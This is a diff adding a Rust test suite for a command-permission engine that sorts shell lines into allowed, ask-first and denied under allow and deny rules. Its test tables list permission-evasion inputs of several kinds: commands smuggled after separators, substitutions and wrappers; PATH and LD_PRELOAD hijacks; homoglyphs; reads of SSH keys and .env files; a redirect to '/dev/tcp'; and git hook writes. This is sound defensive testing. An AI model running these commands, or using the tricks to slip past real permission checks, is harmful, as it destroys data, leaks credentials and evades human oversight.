@@ -1,0 +1,571 @@
+//! Command lines against rules: what is allowed, what asks, what is denied.
+
+use serde_json::json;
+use toolwright::policy::{
+    Action::{self, Allow, Ask, Deny},
+    Layer, PermissionMode, Places, PolicyConfig, PolicyEngine, PolicySources,
+};
+
+pub(crate) fn engine(policy: &serde_json::Value) -> PolicyEngine {
+    engine_in_mode(policy, PermissionMode::Default)
+}
+
+pub(crate) fn engine_in_mode(policy: &serde_json::Value, mode: PermissionMode) -> PolicyEngine {
+    let config = PolicyConfig::from_json(policy, Layer::Options).unwrap();
+    let mut places = Places::of_project("/repo");
+    places.home = Some("/home/me".into());
+    let layers = vec![(Layer::Options, config)];
+    PolicyEngine::new(PolicySources { layers, mode, places }).unwrap()
+}
+
+fn check(policy: &serde_json::Value, table: &[(&str, Action)]) {
+    let engine = engine(policy);
+    let mut wrong = Vec::new();
+    for (line, expected) in table {
+        let verdict = engine.evaluate("Bash", &json!({ "command": line }));
+        if verdict.action != *expected {
+            wrong.push(format!("{line:?}: expected {expected:?}, got {verdict:#?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), table.len(), wrong.join("\n"));
+}
+
+fn everyday_rules() -> serde_json::Value {
+    json!({
+        "allow": [
+            "Bash(git status:*)", "Bash(git diff:*)", "Bash(git log:*)", "Bash(ls:*)",
+            "Bash(cat:*)", "Bash(echo:*)", "Bash(npm run test)", "Bash(grep:*)", "Bash(find:*)",
+            "Bash(head:*)", "Bash(wc:*)", "Bash(test:*)", "Bash(printf:*)", "Bash(read:*)",
+            "Bash(declare:*)", "Bash(cd:*)", "Bash(git * main)", "Bash(cargo build *)",
+            "Bash(./run.sh:*)", "Bash(sort:*)", "Edit(out/**)"
+        ],
+        "ask": ["Bash(git commit:*)"],
+        "deny": ["Bash(rm:*)", "Bash(git push:*)"]
+    })
+}
+
+#[test]
+fn plain_commands_are_judged_by_their_words() {
+    check(
+        &everyday_rules(),
+        &[
+            ("git status", Allow),
+            ("git status --short", Allow),
+            ("  git   status  ", Allow),
+            ("git\tstatus", Allow),
+            ("git statusx", Ask),
+            ("git", Ask),
+            ("gitstatus", Ask),
+            ("GIT status", Ask),
+            ("npm run test", Allow),
+            ("npm  run  test", Allow),
+            ("npm run test -- --watch", Ask),
+            ("npm run tests", Ask),
+            ("npm run", Ask),
+            ("git checkout main", Allow),
+            ("git merge --no-ff main", Allow),
+            ("git checkout other", Ask),
+            ("git main", Ask),
+            ("cargo build --release", Allow),
+            ("cargo build", Allow),
+            ("cargo buildx", Ask),
+            ("./run.sh fast", Allow),
+            ("../run.sh fast", Ask),
+            ("run.sh fast", Ask),
+            ("rm x", Deny),
+            ("/bin/rm x", Deny),
+            ("./rm x", Deny),
+            ("rmdir x", Ask),
+            ("git push", Deny),
+            ("git push origin main", Deny),
+            ("git -C sub push", Ask),
+            ("git --no-pager push", Ask),
+            ("git status push", Allow),
+            ("git $x push", Ask),
+            ("git -C sub status", Ask),
+            ("git commit -m x", Ask),
+            ("/usr/bin/git status", Ask),
+            ("./git status", Ask),
+            ("", Ask),
+            ("   ", Ask),
+            ("# only a comment", Ask),
+            ("true", Ask),
+            ("make", Ask),
+        ],
+    );
+}
+
+#[test]
+fn quoting_is_understood() {
+    check(
+        &everyday_rules(),
+        &[
+            ("'git' status", Allow),
+            ("\"git\" \"status\"", Allow),
+            ("g'i't sta\"tus\"", Allow),
+            ("\\git status", Allow),
+            ("git 'status; rm x'", Ask),
+            ("git status 'a; rm x'", Allow),
+            ("git status \"a && rm x\"", Allow),
+            ("echo 'a | rm x'", Allow),
+            ("echo \\; rm x", Allow),
+            ("r'm' x", Deny),
+            ("\\rm x", Deny),
+            ("\"rm\" x", Deny),
+            ("$'rm' x", Ask),
+            ("$'\\x72m' x", Ask),
+            ("git $'status'", Ask),
+            ("echo $'a'", Ask),
+            ("echo $\"a\"", Ask),
+            ("echo 'it''s'", Allow),
+            ("echo \"a\\\"; rm x\"", Allow),
+            ("echo \"a\\\\\"; rm x", Deny),
+            ("echo 'a", Ask),
+            ("echo \"a", Ask),
+            ("echo a\\", Ask),
+            ("git stat\\us", Allow),
+            ("git \"status --short\"", Ask),
+            ("git ''status", Allow),
+            ("'' git status", Ask),
+        ],
+    );
+}
+
+#[test]
+fn every_command_of_a_list_is_judged() {
+    check(
+        &everyday_rules(),
+        &[
+            ("git status && git diff", Allow),
+            ("git status || true", Allow),
+            ("git status; git log", Allow),
+            ("git status & git log", Allow),
+            ("git status &", Allow),
+            ("git log | head -5", Allow),
+            ("git log |& head -5", Allow),
+            ("git status\ngit log", Allow),
+            ("git status \\\n  --short", Allow),
+            ("git status && rm x", Deny),
+            ("git status || rm x", Deny),
+            ("git status; rm x", Deny),
+            ("git status;rm x", Deny),
+            ("git status & rm x", Deny),
+            ("git status&rm x", Deny),
+            ("git status | rm x", Deny),
+            ("git status |& rm x", Deny),
+            ("git status\nrm x", Deny),
+            ("git status\n\n\nrm x", Deny),
+            ("git status # fine\nrm x", Deny),
+            ("git status # rm x", Allow),
+            ("git status #\\\nrm x", Deny),
+            ("git status && make", Ask),
+            ("git status | make", Ask),
+            ("! git status", Allow),
+            ("! rm x", Deny),
+            ("(git status)", Allow),
+            ("(git status; rm x)", Deny),
+            ("{ git status; }", Allow),
+            ("{ rm x; }", Deny),
+            ("if git diff --quiet; then echo same; else echo other; fi", Allow),
+            ("if rm x; then echo same; fi", Deny),
+            ("if true; then rm x; fi", Deny),
+            ("while true; do git status; done", Allow),
+            ("until rm x; do true; done", Deny),
+            ("for f in a b; do cat \"$f\"; done", Allow),
+            ("for f in a b; do rm \"$f\"; done", Deny),
+            ("for f in $(rm x); do echo; done", Deny),
+            ("for PATH in /evil; do git status; done", Ask),
+            ("for ((i=0; i<2; i++)); do git status; done", Ask),
+            ("case x in x) rm x;; esac", Deny),
+            ("case x in x) git status;; esac", Ask),
+            ("select x in a; do git status; done", Ask),
+            ("git status && (git log | (head -1; wc -l))", Allow),
+            ("git status; cat 2>/dev/null f", Ask),
+            ("git status &&", Ask),
+            ("git status )", Ask),
+            ("git status \r\nrm x", Deny),
+            ("git status\rrm x", Ask),
+        ],
+    );
+}
+
+#[test]
+fn substitutions_are_judged() {
+    check(
+        &everyday_rules(),
+        &[
+            ("echo $(git status)", Allow),
+            ("echo \"$(git status)\"", Allow),
+            ("echo $(rm x)", Deny),
+            ("echo \"$(rm x)\"", Deny),
+            ("echo \"a $(echo \"b $(rm x)\")\"", Deny),
+            ("echo '$(rm x)'", Allow),
+            ("echo \\$(rm x)", Deny),
+            ("echo `git status`", Ask),
+            ("echo `rm x`", Deny),
+            ("$(echo rm) x", Ask),
+            ("$(git status)", Ask),
+            ("git $(echo status)", Ask),
+            ("git status $(make)", Ask),
+            ("cat <(git status)", Allow),
+            ("cat <(rm x)", Deny),
+            ("git status > >(rm x)", Deny),
+            ("echo $((1 + 1))", Ask),
+            ("echo $((a[$(rm x)]))", Deny),
+            ("echo $[a[$(rm x)]]", Deny),
+            ("echo ${x@P}", Ask),
+            ("echo ${!x}", Ask),
+            ("echo ${x:-$(rm x)}", Deny),
+            ("echo ${a[$(rm x)]}", Deny),
+            ("echo ${x:1}", Ask),
+            ("echo $x", Allow),
+            ("echo ${x}", Allow),
+            ("echo \"${x} $y $?\"", Allow),
+            ("git $x", Ask),
+            ("$x status", Ask),
+            ("git status $x", Allow),
+            ("x=$(rm x)", Deny),
+            ("echo hi <<< $(rm x)", Deny),
+            ("cat <<< hello", Allow),
+        ],
+    );
+}
+
+#[test]
+fn wrappers_are_looked_through() {
+    check(
+        &everyday_rules(),
+        &[
+            ("timeout 5 git status", Allow),
+            ("timeout -k 1 5 git status", Allow),
+            ("timeout 5 rm x", Deny),
+            ("timeout 5 make", Ask),
+            ("timeout --foo 5 git status", Ask),
+            ("./timeout 5 git status", Ask),
+            ("env git status", Allow),
+            ("env -i LANG=C git status", Allow),
+            ("env rm x", Deny),
+            ("env LANG=C rm x", Deny),
+            ("env PATH=/evil git status", Ask),
+            ("env -S 'git status'", Ask),
+            ("env LD_PRELOAD=/x.so git status", Ask),
+            ("nice -n 5 git status", Allow),
+            ("nice rm x", Deny),
+            ("nohup git status", Allow),
+            ("nohup rm x", Deny),
+            ("stdbuf -o0 git log", Allow),
+            ("setsid rm x", Deny),
+            ("xargs grep foo", Allow),
+            ("ls | xargs cat", Allow),
+            ("ls | xargs rm", Deny),
+            ("ls | xargs -n1 -P4 rm -f", Deny),
+            ("ls | xargs -I{} rm {}", Ask),
+            ("ls | xargs", Ask),
+            ("ls | xargs sh -c", Ask),
+            ("ls | xargs env", Ask),
+            ("ls | xargs git", Ask),
+            ("sh -c 'git status'", Allow),
+            ("bash -c 'git status; git log'", Allow),
+            ("bash -c 'git status; rm x'", Deny),
+            ("bash -ec \"rm x\"", Deny),
+            ("bash -c \"$x\"", Ask),
+            ("bash -c 'git status' rm x", Allow),
+            ("bash -c -x 'rm x'", Ask),
+            ("bash -c +e 'rm x'", Ask),
+            ("bash -lc 'git status'", Ask),
+            ("bash script.sh", Ask),
+            ("zsh -c 'git status'", Ask),
+            ("sh -c 'sh -c \"rm x\"'", Deny),
+            ("sh -c 'bash -c \"git status\"'", Allow),
+            ("./bash -c 'git status'", Ask),
+            ("command git status", Allow),
+            ("command rm x", Deny),
+            ("command -p git status", Ask),
+            ("builtin echo x", Allow),
+            ("exec git status", Allow),
+            ("exec rm x", Deny),
+            ("exec > file", Ask),
+            ("eval git status", Allow),
+            ("eval 'rm x'", Deny),
+            ("eval \"$x\"", Ask),
+            ("eval git status \\; rm x", Deny),
+            ("time git status", Ask),
+            ("time rm x", Ask),
+            ("sudo git status", Ask),
+            ("sudo rm x", Deny),
+            ("sudo -u bob rm x", Deny),
+            ("find . -name '*.rs'", Allow),
+            ("find . -exec grep foo {} +", Allow),
+            ("find . -exec rm {} \\;", Deny),
+            ("find . -name x -exec cat {} \\; -execdir rm {} \\;", Deny),
+            ("find . -exec sh -c 'rm x' \\;", Deny),
+            ("find . $x", Ask),
+            ("find $x -exec cat {} +", Ask),
+            ("find . -exec cat $x \\;", Ask),
+            ("sudo A=1 rm x", Deny),
+            ("ls {PATH}>/dev/null; git status", Ask),
+            ("git status {fd}>file", Ask),
+            ("ssh host rm x", Ask),
+            ("watch git status", Ask),
+            ("parallel rm ::: x", Ask),
+            ("timeout 5 env nice nohup git status", Allow),
+            ("timeout 5 env nice nohup rm x", Deny),
+        ],
+    );
+}
+
+#[test]
+fn builtins_that_run_code_are_never_allowed_by_their_name() {
+    check(
+        &everyday_rules(),
+        &[
+            ("test -f x", Allow),
+            ("test -v 'a[$(rm x)]'", Ask),
+            ("test \"$a\" \"$b\"", Ask),
+            ("[ -v 'a[$(rm x)]' ]", Ask),
+            ("[ -f x ] && git status", Allow),
+            ("if [ ! -d x ]; then git status; fi", Allow),
+            ("[ a = b ] || [ -n a ] && git status", Allow),
+            ("[ $x = b ] && git status", Ask),
+            ("[ -f x ] && make", Ask),
+            ("[ -f $(rm x) ] && git status", Deny),
+            ("[ -f x ]", Ask),
+            ("[[ -v 'a[$(rm x)]' ]]", Ask),
+            ("[[ $a -eq 1 ]]", Ask),
+            ("printf '%s' x", Allow),
+            ("printf -v 'a[$(rm x)]' x", Ask),
+            ("printf \"$f\" x", Ask),
+            ("read 'a[$(rm x)]'", Ask),
+            ("declare 'a[$(rm x)]=1'", Ask),
+            ("declare -n x=y", Ask),
+            ("let 'a[$(rm x)]=1'", Ask),
+            ("a[$(rm x)]=1", Deny),
+            ("unset 'a[$(rm x)]'", Ask),
+            ("export PATH=/evil; git status", Ask),
+            ("PATH=/evil git status", Ask),
+            ("PATH=/evil; git status", Ask),
+            ("PATH+=:/evil git status", Ask),
+            ("IFS=x; git status", Ask),
+            ("GIT_PAGER=evil git log", Ask),
+            ("BASH_ENV=x bash -c 'git status'", Ask),
+            ("http_proxy=evil; git status", Ask),
+            ("npm_config_script_shell=x; npm run test", Ask),
+            ("\"export\" PATH=/evil; git status", Ask),
+            ("command export PATH=/evil; git status", Ask),
+            ("LANG=C git status", Allow),
+            ("x=1; echo $x", Allow),
+            ("x=1 git status", Ask),
+            ("a=(1 2); git status", Ask),
+            ("trap 'rm x' EXIT", Ask),
+            ("coproc rm x", Ask),
+            ("alias git=rm; git status", Ask),
+            ("alias git=rm\ngit status", Ask),
+            ("git() { rm x; }; git status", Deny),
+            ("git() { make; }; git status", Ask),
+            ("function git { echo x; }; git status", Ask),
+            ("source x; git status", Ask),
+            (". ./x; git status", Ask),
+            ("hash -p /evil git; git status", Ask),
+            ("enable -f x.so y; git status", Ask),
+            ("shopt -s expand_aliases; git status", Ask),
+            ("set -e; git status", Allow),
+            ("set -euo pipefail; git status", Allow),
+            ("set -o xtrace; git status", Ask),
+            ("mapfile -C 'rm x' a", Ask),
+            ("cd sub && git status", Allow),
+            ("((a[$(rm x)]))", Deny),
+            ("((1))", Ask),
+        ],
+    );
+}
+
+#[test]
+fn redirections_are_writes() {
+    check(
+        &everyday_rules(),
+        &[
+            ("git status > /dev/null", Allow),
+            ("git status 2>&1", Allow),
+            ("git status > /dev/null 2>&1", Allow),
+            ("git status &> /dev/null", Allow),
+            ("git status >&2", Allow),
+            ("git status 2>&-", Allow),
+            ("git log > out/log.txt", Allow),
+            ("git log >> out/log.txt", Allow),
+            ("git log >out/a 2>out/b", Allow),
+            ("git log > file", Ask),
+            ("git log >> file", Ask),
+            ("git log >| file", Ask),
+            ("git log &> file", Ask),
+            ("git log &>> file", Ask),
+            ("git log >& file", Ask),
+            ("git log 2> file", Ask),
+            ("git log <> file", Ask),
+            ("git log > out/../file", Ask),
+            ("git log > $x", Ask),
+            ("git log > out/$x", Ask),
+            ("git log > /repo/out/x", Allow),
+            ("git log > ~/x", Ask),
+            ("git log > /dev/tcp/1.2.3.4/80", Ask),
+            ("cd sub && git log > out/x", Ask),
+            ("> file", Ask),
+            ("(git log) > file", Ask),
+            ("{ git log; } > file", Ask),
+            ("git status > .git/hooks/pre-commit", Ask),
+            ("cat < README.md", Allow),
+            ("cat < /etc/passwd", Ask),
+            ("cat <<EOF\nhello\nEOF", Allow),
+            ("cat <<'EOF'\n$(rm x)\nEOF", Allow),
+            ("cat <<EOF\n$(rm x)\nEOF", Deny),
+            ("cat <<EOF > file\nhello\nEOF", Ask),
+            ("cat <<EOF > out/file\nhello\nEOF", Allow),
+            ("cat <<EOF\nhello\nEOF\nrm x", Deny),
+            ("cat <<EOF; rm x\nhello\nEOF", Deny),
+            ("cat <<EOF | grep h\nhello\nEOF", Allow),
+            ("cat <<-EOF\n\thello\n\tEOF", Allow),
+            ("cat <<EOF", Ask),
+            ("echo \"$(cat <<'EOF'\nx\nEOF)\"; evil; echo \"\nEOF\n)\"", Ask),
+            ("echo \"$(cat <<'EOF'\nit's fine\nEOF\n)\"", Allow),
+            ("cat <<\"E F\"\nx\nE F", Ask),
+            ("sort <<EOF\n`rm x`\nEOF", Ask),
+        ],
+    );
+}
+
+#[test]
+fn text_that_misleads_asks() {
+    let deep = "$(".repeat(200);
+    let long = format!("git status {}", "a".repeat(20_000));
+    let nested = format!("echo {}git status{}", "$(".repeat(30), ")".repeat(30));
+    let brackets = "(".repeat(15_000);
+    check(
+        &everyday_rules(),
+        &[
+            ("git\u{a0}status", Ask),
+            ("git status\u{2028}rm x", Ask),
+            ("git status\u{200b}", Ask),
+            ("git status \u{202e}x", Ask),
+            ("git status\0rm x", Ask),
+            ("git status\u{b}rm x", Ask),
+            ("git status\u{c}x", Ask),
+            ("git status \u{1b}[2K", Ask),
+            ("git status \u{feff}", Ask),
+            ("gіt status", Ask),
+            ("git status café 日本", Allow),
+            ("git status ＆＆ rm x", Allow),
+            ("git status；rm x", Ask),
+            ("git stat{us,}", Ask),
+            ("{git,status}", Ask),
+            ("git sta*", Ask),
+            ("git status *", Allow),
+            ("g?t status", Ask),
+            ("~/git status", Ask),
+            ("echo !!", Allow),
+            ("echo @(a|b)", Ask),
+            ("echo !(a)", Ask),
+            (&deep, Ask),
+            (&long, Ask),
+            (&nested, Ask),
+            (&brackets, Ask),
+        ],
+    );
+}
+
+#[test]
+fn paths_with_limits_are_seen_in_commands() {
+    let policy = json!({
+        "allow": ["Bash(cat:*)", "Bash(cp:*)", "Bash(echo:*)", "Bash(sed:*)", "Bash(tee:*)", "Bash(rm:*)"],
+        "deny": ["Read(.env)", "Read(secrets/**)", "Edit(locked/**)", "Read(~/.ssh/**)"]
+    });
+    check(
+        &policy,
+        &[
+            ("cat README.md", Allow),
+            ("cat .env", Deny),
+            ("cat ./.env", Deny),
+            ("cat sub/../.env", Deny),
+            ("cat sub/.env", Deny),
+            ("cat /repo/.env", Deny),
+            ("cat ~/.ssh/id_rsa", Deny),
+            ("cat /home/me/.ssh/id_rsa", Deny),
+            ("cat '.env'", Deny),
+            ("cat .e*", Ask),
+            ("cat $x", Ask),
+            ("cat < .env", Deny),
+            ("cat secrets/a/b", Deny),
+            ("cd secrets && cat a", Ask),
+            ("echo x > .env", Deny),
+            ("cp .env x", Deny),
+            ("sed --file=.env x", Deny),
+            ("cat locked/x", Allow),
+            ("cp x locked/x", Deny),
+            ("echo x > locked/y", Deny),
+            ("sed -i s/a/b/ locked/x", Ask),
+            ("tee .git/hooks/pre-commit", Ask),
+            ("cat .git/config", Allow),
+            ("rm -rf .git", Ask),
+            ("echo .env", Allow),
+        ],
+    );
+}
+
+#[test]
+fn a_rule_that_names_wrapper_and_program_allows_both() {
+    let policy = json!({ "allow": [
+        "Bash(sudo apt update:*)", "Bash(ssh host uptime)", "Bash(git status && make)",
+        "Bash(find . -exec chmod:*)"
+    ] });
+    check(
+        &policy,
+        &[
+            ("sudo apt update -y", Allow),
+            ("sudo apt install x", Ask),
+            ("apt update", Ask),
+            ("ssh host uptime", Allow),
+            ("ssh host uptime; make", Ask),
+            ("ssh host reboot", Ask),
+            ("git status && make", Allow),
+            ("git status && make x", Ask),
+            ("make", Ask),
+            ("find . -exec chmod +x {} \\;", Allow),
+            ("find . -exec rm {} \\;", Ask),
+        ],
+    );
+}
+
+#[test]
+fn allowing_the_shell_allows_what_is_not_understood_unless_a_limit_may_apply() {
+    check(
+        &json!({ "allow": ["Bash"] }),
+        &[
+            ("make", Allow),
+            ("case x in x) make;; esac", Allow),
+            ("echo x > file", Allow),
+            ("echo x > .git/config", Ask),
+        ],
+    );
+    check(
+        &json!({ "allow": ["Bash"], "deny": ["Bash(rm:*)"] }),
+        &[
+            ("make", Allow),
+            ("echo x > file", Allow),
+            ("rm x", Deny),
+            ("$x y", Ask),
+            ("case x in x) make;; esac", Ask),
+            ("ssh host rm x", Ask),
+            ("docker ps", Allow),
+            ("echo rm x | sh", Ask),
+            ("bash <<EOF\nrm x\nEOF", Ask),
+            ("/bin/bash -s < x", Ask),
+            ("bash script.sh", Allow),
+            ("env -S 'rm x'", Ask),
+            ("busybox rm x", Ask),
+            ("eval \"r\"\"m x\"", Deny),
+            ("/bin/r? x", Ask),
+            ("find . -exec sh -c 'rm \"$1\"' _ {} \\;", Deny),
+            ("f() { rm x; }", Deny),
+            ("if true; then { rm x; } fi", Deny),
+            ("git log --format='rm x'", Allow),
+        ],
+    );
+}
